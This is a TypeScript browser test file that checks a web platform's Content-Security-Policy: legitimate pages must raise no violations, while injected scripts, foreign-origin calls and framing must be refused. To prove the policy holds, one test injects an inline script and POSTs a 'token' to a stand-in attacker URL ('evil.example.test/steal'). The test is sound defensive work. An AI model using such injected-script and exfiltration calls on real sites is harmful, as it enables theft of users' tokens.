/// <reference lib="dom" />
// The pages' Content-Security-Policy in Chromium: every page works under it (no script, style or
// call of its own is refused, through sign-in across hosts and each app's main view), and what
// it exists for is refused: an injected inline script, a call to a foreign origin, framing.
import type { Browser, Page } from 'playwright-core';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cspViolations,
  hasChromium,
  launchChromium,
  newContext,
  newUser,
  openSignedIn,
  seriousViolations,
  settled,
  signUpOnAccount,
  startWebPlatform,
  visible,
  type WebPlatform,
} from './support.ts';

describe.skipIf(!hasChromium)('web: the Content-Security-Policy', () => {
  let web: WebPlatform;
  let browser: Browser;

  beforeAll(async () => {
    [web, browser] = await Promise.all([startWebPlatform(), launchChromium()]);
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
    await web?.close();
  });

  const views = [
    ['hollowtown', 'recipes'],
    ['hollowtown', 'events'],
    ['recipes', 'recipes'],
    ['recipes', 'meal-plans'],
    ['family', 'families'],
  ] as const;

  it('refuses nothing the pages do themselves, landing to signed-in views on every host', async () => {
    const context = await newContext(browser);
    const page = await context.newPage();
    const refused: string[] = [];
    const check = async (where: string) => {
      for (const violation of await cspViolations(page)) refused.push(`${where}: ${violation}`);
    };

    for (const app of ['hollowtown', 'recipes', 'family'] as const) {
      await page.goto(web.at('localhost', `/${app}/`));
      await visible(page.getByRole('heading', { level: 1 }));
      await check(`/${app}/ landing`);
    }
    await signUpOnAccount(page, web, newUser('csp'));
    await check('account console');
    for (const [app, view] of views) {
      await openSignedIn(page, web, app, view);
      await settled(page);
      await check(`${app}/${view}`);
    }
    // axe still runs under the policy (it is evaluated, not injected as inline script).
    expect(await seriousViolations(page)).toEqual([]);
    expect(refused).toEqual([]);
    await context.close();
  });

  it('refuses an injected inline script and a call to an origin that is not CALOS', async () => {
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(web.at('hollowtown', '/'));
    await visible(page.getByRole('heading', { level: 1 }));

    const outcome = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      let fetched = 'sent';
      try {
        await fetch('http://evil.example.test/steal', { method: 'POST', body: 'token' });
      } catch {
        fetched = 'refused';
      }
      return { ran: (window as unknown as { __injected?: boolean }).__injected === true, fetched };
    });
    expect(outcome).toEqual({ ran: false, fetched: 'refused' });
    const refused = await cspViolations(page);
    expect(refused.some((v) => v.startsWith('script-src'))).toBe(true);
    expect(refused.some((v) => v.startsWith('connect-src') && v.includes('evil.example.test'))).toBe(true);
    await context.close();
  });

  it('cannot be framed by another site', async () => {
    const answer = await request(`http://127.0.0.1:${web.port}/`, {
      headers: { host: `hollowtown.localhost:${web.port}` },
    });
    await answer.body.dump();
    expect(answer.headers['x-frame-options']).toBe('DENY');
    expect(String(answer.headers['content-security-policy'])).toContain("frame-ancestors 'none'");

    const context = await newContext(browser);
    const page: Page = await context.newPage();
    await page.goto(web.at('localhost', '/healthz'));
    const framed = await page.evaluate(
      async (src) => {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
        await new Promise((resolve) => setTimeout(resolve, 1_000));
        try {
          return frame.contentDocument?.querySelector('h1')?.textContent ?? null;
        } catch {
          return null;
        }
      },
      web.at('localhost', '/hollowtown/'),
    );
    expect(framed).toBeNull();
    await context.close();
  });
});
